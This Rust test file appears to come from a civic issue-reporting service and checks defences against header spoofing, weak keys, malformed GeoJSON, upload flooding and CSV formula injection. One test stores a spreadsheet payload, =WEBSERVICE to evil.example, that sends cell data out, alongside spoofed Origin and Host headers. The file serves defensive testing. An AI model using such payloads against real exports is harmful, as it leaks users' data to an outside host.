//! Requests that must not do what they ask for, on a service without a key and on one with a key.

use std::process::Stdio;

use serde_json::json;

use crate::common::{Folder, Service, demo_city, done, jpeg};
use crate::target::Target;
use crate::wire::{exchange, send};

const HERE: [u8; 2] = [0, 1];
const POTHOLE: &str = r#"{"service_code":"nid-de-poule","lon":-71.208,"lat":46.8139}"#;

/// The id of a new report.
fn filed(service: &Service) -> String {
    let answer = service.post("/api/v1/reports", POTHOLE);
    assert_eq!(answer.status, 201, "{answer:?}");
    answer.json()["id"].as_str().unwrap().to_owned()
}

#[test]
fn nobody_elsewhere_changes_reports_of_a_service_without_a_key() {
    let target = Target::start(200);
    let id = filed(&target.service);
    let path = format!("/api/v1/reports/{id}");
    let closed = br#"{"status":"closed"}"#;
    for head in [
        "X-Forwarded-For: 203.0.113.9\r\n",
        "Forwarded: for=203.0.113.9\r\n",
        "Via: 1.1 proxy\r\n",
        "X-Real-IP: 203.0.113.9\r\n",
        "Origin: https://evil.example\r\n",
        "Origin: null\r\n",
        "Sec-Fetch-Site: cross-site\r\n",
        "Sec-Fetch-Site: same-site\r\n",
        "Host: evil.example\r\n",
        "Host: 127.0.0.1.evil.example\r\n",
    ] {
        for kind in ["application/json", "text/plain"] {
            let request = send("PATCH", &path, kind, head, closed);
            let answer = exchange(target.address(), HERE, &request).unwrap();
            let is_refused = [403, 415].contains(&answer.status);
            assert!(is_refused, "{head}{kind}: {}", answer.text());
        }
    }
    let report = target.service.get(&path).json();
    assert_eq!(report["properties"]["status"], "open");
    // Contacts need a key even on this machine.
    assert_eq!(target.service.get(&format!("{path}/contact")).status, 403);
}

#[test]
fn a_key_that_can_be_guessed_does_not_start_a_service() {
    let folder = Folder::new("walls");
    for key in ["", " ", "short", "                    "] {
        let mut program = crate::common::program(&folder);
        let serve = ["serve", "--listen", "127.0.0.1:0", "--basemap", "none", "--crew-key", key];
        let output = program.args(serve).stdout(Stdio::null()).output().unwrap();
        assert!(!output.status.success(), "{key:?}");
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(key.trim().is_empty() || !said.contains(key), "{said}");
    }
}

#[test]
fn malformed_shapes_are_refused_and_break_nothing() {
    let target = Target::start(200);
    let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    for coordinates in [
        "[[[1],[2],[3],[1]]]",
        "[[[]]]",
        "[[]]",
        "[]",
        "[[[0,0],[0,0],[0,0],[0,0]]]",
        "[[[1e308,1e308],[-1e308,0],[0,1e308],[1e308,1e308]]]",
        "[[[0,0,0,0],[1,1],[\"2\",2],[0,0]]]",
        "null",
        deep.as_str(),
    ] {
        let body = format!("{{\"type\":\"Polygon\",\"coordinates\":{coordinates}}}");
        let request = send("POST", "/api/v1/within", "application/json", "", body.as_bytes());
        let answer = exchange(target.address(), HERE, &request).unwrap();
        assert_eq!(answer.status, 400, "{}", &coordinates[..coordinates.len().min(60)]);
    }
    assert!(!target.errors().contains("panicked"), "{}", target.errors());
}

#[test]
fn a_report_is_attached_to_no_incident_that_was_not_proposed() {
    let target = Target::start(200);
    let id = filed(&target.service);
    let far = json!({ "service_code": "nid-de-poule", "lon": -71.30, "lat": 46.90 }).to_string();
    let path = format!("/api/v1/reports?dedupe=warn&confirm={id}");
    let answer = target.service.post(&path, &far);
    if answer.status == 201 {
        let parent = &answer.json()["properties"]["parent_service_request_id"];
        assert!(parent.is_null(), "{answer:?}");
    }
}

#[test]
fn an_anonymous_sender_stores_no_photos_without_end() {
    let target = Target::start(200);
    let photo = send("POST", "/api/v1/media", "image/jpeg", "", &jpeg(32, 32));
    let mut statuses = Vec::new();
    for _ in 0..70 {
        statuses.push(exchange(target.address(), HERE, &photo).unwrap().status);
    }
    let stored = statuses.iter().filter(|status| **status == 201).count();
    assert!(stored <= 60, "{stored}");
    assert_eq!(statuses.last(), Some(&429));
}

#[test]
fn refusals_are_short_whatever_was_sent() {
    let target = Target::start(200);
    let names: String = (0..3_000).map(|n| format!("p{n}=1&")).collect();
    let answer = target.service.get(&format!("/api/v1/reports?{names}"));
    assert!(answer.status == 400 && answer.body.len() < 64 << 10, "{}", answer.body.len());
    let members: String = (0..20_000).map(|n| format!("\"m{n}\":1,")).collect();
    let answer = target.service.post("/api/v1/reports", &format!("{{{members}\"x\":1}}"));
    assert!(answer.status == 400 && answer.body.len() < 64 << 10, "{}", answer.body.len());
}

#[test]
fn an_exported_table_has_no_formula() {
    let folder = demo_city("walls", 50, 5);
    let service = Service::start(&folder, &[]);
    let body = json!({ "service_code": "graffiti", "lon": -71.2, "lat": 46.8,
                       "description": "=WEBSERVICE(\"http://evil.example/\"&A1)" });
    assert_eq!(service.post("/api/v1/reports", &body.to_string()).status, 201);
    let file = folder.file("out.csv");
    done(&folder, &["export", "-o", file.to_str().unwrap()]);
    let of_command = std::fs::read_to_string(file).unwrap();
    let of_service = String::from_utf8(service.get("/api/v1/export.csv").body).unwrap();
    for text in [of_command, of_service] {
        let mut rows = csv::Reader::from_reader(text.as_bytes());
        let cells: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
        let is_formula = |cell: &str| cell.starts_with(['=', '+', '@']);
        assert!(!cells.iter().flatten().any(is_formula));
        assert!(cells.iter().flatten().any(|cell| cell.starts_with("'=WEBSERVICE")));
    }
}
